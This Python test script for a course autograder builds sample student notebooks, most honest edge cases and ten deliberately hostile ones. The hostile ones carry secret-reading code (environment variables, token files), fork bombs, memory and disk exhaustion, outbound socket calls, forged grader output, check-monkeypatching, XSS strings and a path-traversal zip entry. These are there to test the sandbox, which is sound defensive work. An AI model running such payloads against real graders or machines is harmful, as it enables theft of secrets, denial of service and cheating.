"""A class of exercise 1 as it reaches a teacher: most are honest, ten try something.

Run by itself it marks that class and says how long it took:

    python3 tasks.py exercises --check && .venv/bin/python tests/class_of_thirty.py
"""

from __future__ import annotations

import copy
import io
import json
import os
import re
import subprocess
import sys
import tempfile
import time
import zipfile
from pathlib import Path

import nbformat

from frenemies_build.course import editions

SLUG = "01-trade"
TASKS = [f"trade-{number}" for number in range(1, 7)]
SOLUTION = re.compile(r"### BEGIN SOLUTION\n(.*?)### END SOLUTION", re.DOTALL)


def grade_id(cell: dict) -> str:
    """nbgrader's id of a cell."""
    return cell["metadata"].get("nbgrader", {}).get("grade_id", "")


def read(path: Path) -> dict:
    """A notebook as plain JSON with whole sources."""
    return json.loads(json.dumps(nbformat.read(path, as_version=4)))


ANSWERS = {grade_id(cell): SOLUTION.sub(r"\1", cell["source"]) for cell in read(editions.master_path(SLUG))["cells"]}


def notebook(solved: list[str] = TASKS, **changed: str) -> dict:
    """A students' edition with some tasks solved and some cells changed (`trade_2=...`)."""
    made = read(editions.release_path(SLUG))
    for cell in made["cells"]:
        name = grade_id(cell)
        if name in solved:
            cell["source"] = ANSWERS[name]
        cell["source"] = changed.get(name.replace("-", "_"), cell["source"])
    return made


def place(made: dict, name: str) -> int:
    """Where a cell stands, by nbgrader's id or its own."""
    return next(n for n, cell in enumerate(made["cells"]) if name in (grade_id(cell), cell.get("id")))


def code(source: str) -> dict:
    """A code cell without a trace of where it came from."""
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source}


def text(made: dict) -> str:
    """A notebook file."""
    return json.dumps(made, ensure_ascii=False)


def stripped(made: dict) -> dict:
    """A notebook from a program that keeps no ids and adds metadata of its own, as Colab does."""
    made |= {"nbformat_minor": 0, "metadata": {"colab": {"provenance": []}}}
    for cell in made["cells"]:
        cell.pop("id", None)
        cell["metadata"] = {"id": "a0B1c2", "outputId": "7f3e"} if cell["cell_type"] == "code" else {"id": "zz"}
    return made


def retyped() -> dict:
    """Answers typed into a notebook of one's own, with the checks but without the given cells' ids."""
    cells = [
        code(cell["source"])
        for cell in read(editions.release_path(SLUG))["cells"]
        if cell["cell_type"] == "code" and not grade_id(cell)
    ]
    for task in TASKS:
        call = next(
            cell["source"] for cell in read(editions.release_path(SLUG))["cells"] if grade_id(cell) == f"{task}-check"
        )
        cells.append(code(f"{ANSWERS[task]}\n{call}"))
    return {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 4}


def split() -> dict:
    """Task 3 in three cells, only the first with the id."""
    made = notebook()
    where = place(made, "trade-3")
    first, second, third = re.split(r"\n(?=russia_counts|gap_2016)", made["cells"][where]["source"])
    made["cells"][where]["source"] = first
    made["cells"][where + 1 : where + 1] = [code(second), code(third)]
    return made


def moved() -> dict:
    """The answer to task 4 above the cell that makes what it needs."""
    made = notebook()
    made["cells"].insert(place(made, "share-given"), made["cells"].pop(place(made, "trade-4")))
    return made


def without_given() -> dict:
    """A notebook whose first two cells were deleted."""
    made = notebook()
    made["cells"] = [cell for cell in made["cells"] if cell.get("id") not in ("imports", "data")]
    return made


def second_thoughts() -> dict:
    """Another answer to task 2 below its check: which one counts?"""
    made = notebook(trade_2='deficit_2024 = (flows["export"] - flows["import"]) / 1000')
    made["cells"].insert(place(made, "trade-2-check") + 1, code(ANSWERS["trade-2"]))
    return made


def renamed_variable() -> dict:
    """Task 2 under another name, in the check as well."""
    made = notebook(trade_2=ANSWERS["trade-2"].replace("deficit_2024", "deficit"))
    made["cells"][place(made, "trade-2-check")]["source"] = (
        'check("trade-2", deficit, unit="billion US dollars", decimals=1)'
    )
    return made


def old_format() -> dict:
    """A notebook of format 3."""
    cells = []
    for cell in notebook()["cells"]:
        cells.append({"cell_type": cell["cell_type"], "metadata": cell["metadata"]} | (
            {"input": cell["source"], "language": "python", "outputs": []} if cell["cell_type"] == "code" else {"source": cell["source"]}
        ))  # fmt: skip
    return {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": ""}, "worksheets": [{"cells": cells}]}


def text_answer() -> dict:
    """The argument written into a text cell."""
    made = notebook()
    cell = made["cells"][place(made, "trade-6")]
    cell |= {"cell_type": "markdown", "source": "Yes, <b>at first</b>: 189 in 2023 (Comtrade)."}
    return made


def tampered() -> dict:
    """Locked cells and points changed, a check deleted."""
    made = notebook(TASKS[:1], trade_2_check="print('Correct.')\n2.0")
    made["cells"][place(made, "trade-3-check")]["metadata"]["nbgrader"]["points"] = 100
    del made["cells"][place(made, "trade-4-check")]
    return made


def copied_check() -> dict:
    """A locked check copied with its id."""
    made = notebook()
    where = place(made, "trade-2-check")
    made["cells"].insert(where, copy.deepcopy(made["cells"][where]))
    return made


# --- what tries something. Each replaces the answer to task 1 or 2 and solves the others.

WRITES = """
import os, pathlib, sqlite3
order = []
for up in ("/", "/book", "/book/frenemies", "/book/data", "/packages", "/marking", "/dev", "/usr", TARGET):
    for act in (lambda p: open(p + "/owned", "w"), os.makedirs, lambda p: os.chmod(p, 0o777), lambda p: sqlite3.connect(p + "/gradebook.db").execute("create table a(b)")):
        try:
            act(up)
        except Exception:
            pass
"""
READS = """
import os, glob
order = []
found = [path for up in ("/proc/*/environ", "/*/*.ipynb", "/tmp/*", "/book/*/*", "/ro*/*", "/home/*/*", FOLDER + "/*", FOLDER + "/*/*") for path in glob.glob(up)]
found += [TOKEN_FILE, MASTER]
loot = [str(dict(os.environ)), str(os.listdir("/"))]
for path in found:
    try:
        loot.append(open(path, errors="replace").read()[:3000])
    except OSError:
        pass
"""
READS_OUT = "claim = str(loot)[:20000]\nevidence = 'seen: ' + str(len(found))\nreasoning = ''"
NEVER_LISTENS = """
import signal
order = []
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""
CHAMELEON = """
class Any(float):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = float.__hash__
    __sub__ = __rsub__ = __abs__ = __float__ = lambda self, *other: 0.0
    __class__ = float
deficit_2024 = Any(0)
"""
SPAWNS = """
import os, subprocess, sys, threading, time
order = []
def hold():
    while True:
        time.sleep(1)
for act in (os.fork, lambda: subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"], start_new_session=True), lambda: threading.Thread(target=hold).start(), os.forkpty):
    for _ in range(20):
        try:
            if act() == 0:
                os.setsid()
                hold()
        except BaseException:
            pass
"""
EATS_MEMORY = """
order = []
kept = []
try:
    while True:
        kept.append(bytearray(200_000_000))
except MemoryError:
    pass
kept = None
"""
FILLS_DISK = """
import os
order = []
for place in (".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
    for number in range(200):
        try:
            with open(f"{place}/full{number}", "wb") as file:
                file.write(b"x" * 5_000_000)
        except OSError:
            break
"""
CALLS_HOME = """
import socket
order = []
for family, address in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET, ("1.1.1.1", 53)), (socket.AF_UNIX, "\\0frenemies-test")):
    try:
        with socket.socket(family) as line:
            line.settimeout(0.3)
            line.connect(address)
            line.sendall(b"answers please")
    except OSError:
        pass
"""
FORGES = """
import json, os
order = []
lies = ['{"values": {"order": {"t": "list", "v": [' + '[' * 5000 + ']}}, "task": "trade-1", "cell": 3}', '{"done": true, "points": 99}'[:-1],
        '{"cell": 3, "task": "trade-1", "values": {"order": {"t": "frame", "columns": 1, "index": {}, "v": []}}}',
        '{"cell": 3, "task": "trade-1", "values": {"order": {"t": "list", "v": [' + '[' * 700 + ']' * 700 + ']}}}',
        '{"cell": 3, "task": "trade-1", "values": {"order": {"t": "str", "v": "x\\\\ud800y"}}}',
        '{"cell": 99, "task": "trade-9", "values": {}}', '{"start": 100000000000000000000}', '{"error": 3, "name": "<script>"}', '{"cell": []}', '[]', 'NaN']
for fd in range(3, 64):
    for lie in lies:
        try:
            os.write(fd, (lie + "\\n").encode())
        except OSError:
            pass
print("x" * 50_000_000)
import builtins, answer_values, frenemies
answer_values.encoded = lambda value, depth=0: {"t": "float", "v": "nan"}
builtins.abs = lambda *_: 0
frenemies.check = lambda *_, **__: print("Correct.")
"""
SHOWS = "claim = '<script>document.title=\"read\"</script>'\nevidence = '<img src=x onerror=alert(1)> <iframe src=//x>'\nreasoning = '</pre><form action=//x>'"
GIANT = """
import pandas as pd
order = ["C"] * 3_000_000
deficit_2024 = 10 ** 200_000
gap_2016 = float("nan")
share = pd.Series(range(500_000))
"""


def hostile(token_file: Path, port: int, target: Path) -> dict[str, tuple[dict, float]]:
    """Ten notebooks that try something, each with the points that its honest part deserves."""
    script = notebook(trade_6=SHOWS)
    for cell in script["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [
                {
                    "output_type": "display_data",
                    "metadata": {},
                    "data": {"text/html": "<script>alert(1)</script>", "application/javascript": "alert(2)"},
                }
            ]
        else:
            cell["source"] += "\n<script>alert(3)</script>"
    hidden = {"TOKEN_FILE": token_file, "MASTER": editions.master_path(SLUG), "FOLDER": target}
    look = READS
    for name, path in hidden.items():
        look = look.replace(name, repr(str(path)))
    reads = notebook(trade_1=look, trade_6=READS_OUT)
    return {
        "writes everywhere": (notebook(trade_1=WRITES.replace("TARGET", repr(str(target)))), 10),
        "reads everything": (reads, 10),
        "never listens": (notebook(trade_1=NEVER_LISTENS), 10),
        "chameleon": (notebook(trade_2=CHAMELEON), 10),
        "spawns": (notebook(trade_1=SPAWNS), 10),
        "eats memory": (notebook(trade_1=EATS_MEMORY), 10),
        "fills the disk": (notebook(trade_1=FILLS_DISK), 10),
        "calls home": (notebook(trade_1=CALLS_HOME.replace("PORT", str(port))), 10),
        "forges lines": (notebook(trade_1=FORGES), 10),
        "<img src=x onerror=alert(4)>": (script, 12),
    }


def honest() -> dict[str, tuple[object, float, str]]:
    """Fifteen notebooks in a folder each: content, points, and a part of the note that says what happened."""
    return {
        "good": (notebook(), 12, ""),
        "blank": (notebook([]), 0, ""),
        "half": (notebook(TASKS[:2]), 4, ""),
        "syntax error": (notebook(trade_2="deficit_2024 = (("), 10, "trade-2: SyntaxError in cell"),
        "endless": (notebook(trade_3="while True:\n    pass"), 9, "trade-3: ran out of time in cell"),
        "ends itself": (notebook(trade_3="import os\nos._exit(0)"), 9, "trade-3: ended the program in cell"),
        "colab": (stripped(notebook()), 12, "lost their ids"),
        "retyped": (retyped(), 12, "lost their ids"),
        "split": (split(), 12, ""),
        "moved": (moved(), 12, "above what it needs; it was run again"),
        "without given cells": (without_given(), 12, "given cell 'data' was missing"),
        "old format": (old_format(), 12, ""),
        "text answer": (text_answer(), 12, "trade-6: the answer stands in a text cell"),
        "tampered": (tampered(), 2, "trade-2-check: locked cell was changed"),
        "copied check": (copied_check(), 12, ""),
        "second thoughts": (second_thoughts(), 10, "trade-2: several cells answer it, with different points"),
        "renamed variable": (renamed_variable(), 10, "trade-2: cell 10 sets no deficit_2024"),
        "giant answers": (notebook(trade_2=GIANT, trade_1="order = ...", trade_3="gap_2016 = float('nan')\nturkey_counts = russia_counts = 0", trade_4="pass"), 2, "too large"),
    }  # fmt: skip


def write(folder: Path, token_file: Path, port: int, target: Path) -> dict[str, float]:
    """Write the class; return what each student's tests deserve."""
    points = {}
    for name, (made, worth, *_) in (honest() | hostile(token_file, port, target)).items():
        (folder / name).mkdir(parents=True)
        (folder / name / f"{SLUG}.ipynb").write_text(text(made), encoding="utf-8")
        points[name] = worth
    # A second download of the blank beside the work, and a mark of byte order before the text.
    (folder / "half" / f"{SLUG} (1).ipynb").write_text(text(notebook([])), encoding="utf-8")
    (folder / "split" / f"{SLUG}.ipynb").write_text(text(split()), encoding="utf-16")
    (folder / "absent").mkdir()
    (folder / "broken").mkdir()
    (folder / "broken" / f"{SLUG}.ipynb").write_text("{ this is not a notebook", encoding="utf-8")
    (folder / f"Ana Ak_{SLUG}.ipynb").write_text("\ufeff" + text(notebook(TASKS[:1])), encoding="utf-8")
    with zipfile.ZipFile(folder / "moodle.zip", "w") as archive:
        archive.writestr(f"Öğrenci Bir_1001_assignsubmission_file/{SLUG}.ipynb", text(notebook()))
        archive.writestr(f"Студент Два_1002_assignsubmission_file/{SLUG}(2).ipynb", text(stripped(notebook(TASKS[:2]))))
        archive.writestr("../../outside_1003_assignsubmission_file/notes.pdf", b"%PDF")
    with zipfile.ZipFile(folder / "canvas.zip", "w") as archive:
        archive.writestr(f"studentthree_1003_55501_{SLUG}.ipynb", text(notebook(TASKS[:1])))
        archive.writestr(f"studentthree_LATE_1003_55502_{SLUG}-1.ipynb", text(notebook()))
    return points | {"Ana Ak": 2, "Öğrenci Bir": 12, "Студент Два": 4, "studentthree": 12}


def zipped(files: dict[str, str | bytes]) -> bytes:
    """An archive."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return held.getvalue()


def main() -> int:
    """Mark the class in a folder that is thrown away; print how long it took and how busy the machine was."""
    with tempfile.TemporaryDirectory() as made:
        folder = Path(made)
        (folder / "secret.txt").write_text("secret")
        deserved = write(folder / "submitted", folder / "secret.txt", 9, folder)
        busy, begun, used = os.getloadavg()[0], time.monotonic(), os.times()
        command = [sys.executable, "-m", "frenemies_build.course.marking", str(folder / "submitted")]
        code = subprocess.run(
            [*command, "--to", str(folder / "graded"), "--seconds", "4"], cwd=editions.COURSE.parent
        ).returncode
        seconds, after = time.monotonic() - begun, os.times()
        processor = after.children_user + after.children_system - used.children_user - used.children_system
        print(
            f"{len(deserved) + 3} rows in {seconds:.0f} s on {os.cpu_count()} cores, {processor:.0f} s of a processor outside the sandboxes; "
            f"programs that wanted one: {busy:.1f} before, {os.getloadavg()[0]:.1f} after"
        )
    return code


if __name__ == "__main__":
    sys.exit(main())
